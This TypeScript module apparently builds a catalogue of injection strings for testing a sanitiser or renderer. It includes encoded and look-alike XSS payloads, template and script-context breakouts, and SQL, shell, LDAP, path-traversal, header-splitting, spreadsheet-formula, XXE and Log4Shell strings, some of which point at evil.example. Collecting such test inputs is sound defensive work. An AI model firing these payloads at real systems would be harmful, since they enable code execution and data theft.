import { plainElements } from './markup.ts';

const hex = (letter: string): string => (letter.codePointAt(0) ?? 0).toString(16);
const each = (text: string, to: (letter: string) => string): string => Array.from(text, to).join('');
const marks = (text: string, to: (letter: string) => string): string =>
  text.replaceAll(/[<>"'=()/]/g, (letter) => to(letter));

/** Ways in which a character can be written that somebody may decode once too often. */
const encodings: readonly ((text: string) => string)[] = [
  (text) => marks(text, (letter) => `&#${letter.codePointAt(0)};`),
  (text) => marks(text, (letter) => `&#x${hex(letter)}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => marks(text, (letter) => `%${hex(letter)}`),
  (text) => marks(text, (letter) => `%25${hex(letter)}`),
  (text) => marks(text, (letter) => `\\u00${hex(letter)}`),
  (text) => marks(text, (letter) => `\\x${hex(letter)}`),
];

/** Characters that look like others, or vanish. */
const looks: readonly ((text: string) => string)[] = [
  (text) =>
    each(text, (letter) =>
      letter > ' ' && letter <= '~' ? String.fromCodePoint(hexOf(letter) + 0xfee0) : letter,
    ),
  (text) => text.replaceAll('<', '﹤').replaceAll('>', '﹥'),
  (text) => text.replaceAll('<', '‹').replaceAll('>', '›').replaceAll('"', 'ʺ'),
  (text) => text.replaceAll(/(?<=<\w)/g, '\u200b'),
  (text) => text.replaceAll('<', '<\u0338'),
  (text) => text.replaceAll('<', '\ufeff<'),
  (text) => text.replaceAll(/(?<=<\w)/g, '\u00ad'),
  (text) => text.replaceAll('s', 'ſ'),
];
const hexOf = (letter: string): number => letter.codePointAt(0) ?? 0;

const inScripts = [
  '"-hit()-"',
  "'-hit()-'",
  "\\'-hit()//",
  '\\"-hit()//',
  '";hit();//',
  "';hit();//",
  '`-hit()-`',
  '${hit()}',
  '*/hit()/*',
  '</script><script>hit()</script>',
  '<!--<script>hit()',
  '"}</script><script>hit()</script>',
  '\u2028hit()//',
  '\u2029hit()//',
  'x\u2028</script><script>hit()</script>',
  '{"__html":"<img src=x onerror=hit()>"}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit()>"}}',
  '{"type":"script","props":{"children":"hit()"}}',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '__proto__[innerHTML]=<img src=x onerror=hit()>',
  'undefined',
  'null',
  '[object Object]',
  'Function("hit()")()',
  'eval(name)',
  'setTimeout`hit\\x28\\x29`',
  'onerror=hit;throw 1',
];

const templates = [
  "{{constructor.constructor('hit()')()}}",
  '{{$on.constructor("hit()")()}}',
  "{{_c.constructor('hit()')()}}",
  '{{7*7}}',
  '{{{hit()}}}',
  '<%= hit() %>',
  '<%- include("/etc/passwd") %>',
  '#{hit()}',
  '@{hit()}',
  '*{hit()}',
  '[[${hit()}]]',
  '[(${hit()})]',
  '{% raw %}{{hit()}}{% endraw %}',
  '{%print(hit())%}',
  '<p v-html="\'<img src=x onerror=hit()>\'">x</p>',
  '<p v-on:click=hit()>x</p>',
  '<p x-data x-init=hit()>x</p>',
  '<p ng-app ng-csp ng-init=constructor.constructor("hit()")()>x</p>',
  '<p hx-get=//evil.example hx-trigger=load>x</p>',
  '<p data-bind="html:\'<img src=x onerror=hit()>\'">x</p>',
  '<x-hit></x-hit><script>customElements.define("x-hit",class extends HTMLElement{connectedCallback(){hit()}})</script>',
  '<slot onslotchange=hit()>x</slot>',
  '$& $1 $` $$ <img src=x onerror=hit()>',
  '%s %n %d {0} <img src=x onerror=hit()>',
];

const otherPrograms = [
  "'; DROP TABLE posts; --",
  '" OR ""="',
  '1 UNION SELECT * FROM accounts',
  '*)(uid=*))(|(uid=*',
  '$(hit)',
  '`hit`',
  '| hit',
  '; hit &',
  '${jndi:ldap://evil.example/x}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%0d%0aSet-Cookie: a=b',
  'x\r\nSet-Cookie: a=b\r\n\r\n<script>hit()</script>',
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '<!ENTITY x SYSTEM "file:///etc/passwd">',
  '<xsl:script>hit()</xsl:script>',
  '<!--#exec cmd="hit"-->',
  '\u001b[31mred\u001b[0m',
];

const unicode = [
  '\u0000<script>hit()</script>',
  '<scr\u0000ipt>hit()</script>',
  '<img src=x onerror\u0000=hit()>',
  '<img\u000csrc=x\u000conerror=hit()>',
  '<img\u000bsrc=x onerror=hit()>',
  '\ud800<script>hit()</script>',
  '<script>hit()</script>\udfff',
  '\u202e>tpircs/<)(tih>tpircs<',
  '\u2067<script>hit()</script>\u2069',
  '\u2066\u2066\u2066\u2066<img src=x onerror=hit()>',
  '\u200f\u200f<img src=x onerror=hit()>',
  '\u061c<img src=x onerror=hit()>',
  '<\u200dscript>hit()</script>',
  '\ufeff<script>hit()</script>',
  '\u{e003c}\u{e0073}\u{e003e} <img src=x onerror=hit()>',
  '🏃‍♀️<img src=x onerror=hit()>🏳️‍🌈',
  '<ſcript>hit()</ſcript>',
  '<ｉｍｇ src=x onerror=hit()>',
  '¼script¾hit()¼/script¾',
  '<İmg src=x onerror=hit()>',
  'ﷺ'.repeat(12),
  `H${'\u0336\u035b\u0489'.repeat(20)}i`,
  '\u3164',
  '\u2800\u2800',
  'a\u0300\u0301\u0302\u0303 <b>',
  'שלום <img src=x onerror=hit()> עולם',
  'مرحبا "onmouseover="hit()" عالم',
];

/** As long as a text may be, and longer. */
const huge = [
  '<'.repeat(2000),
  '<b>'.repeat(660),
  '"'.repeat(2000),
  '&'.repeat(2000),
  '&lt;'.repeat(500),
  'x'.repeat(2000),
  'x'.repeat(2001),
  'x'.repeat(500),
  'W'.repeat(80),
  '@a'.repeat(1000),
  '#'.repeat(2000),
  `#${'ä'.repeat(50)}`,
  'https://evil.example/'.repeat(95),
  `https://${'a.'.repeat(90)}example/`,
  '\n'.repeat(20) + '<script>hit()</script>' + '\n'.repeat(20) + '.',
  `.${'\n'.repeat(1990)}.`,
  '(((('.repeat(500),
  '\u0301'.repeat(2000),
  '🏃'.repeat(2000),
  '\u202e'.repeat(400) + 'hit()',
  `${'<div>'.repeat(390)}<img src=x onerror=hit()>`,
  `${'a'.repeat(1970)}<svg/onload=hit()>`,
];

export const otherTongues = (): Readonly<Record<string, readonly string[]>> => ({
  encoded: encodings.flatMap((encode) => plainElements.map(encode)),
  'look alike': looks.flatMap((look) => plainElements.slice(0, 5).map(look)),
  'in scripts': inScripts,
  templates,
  'other programs': otherPrograms,
  unicode,
  huge,
});
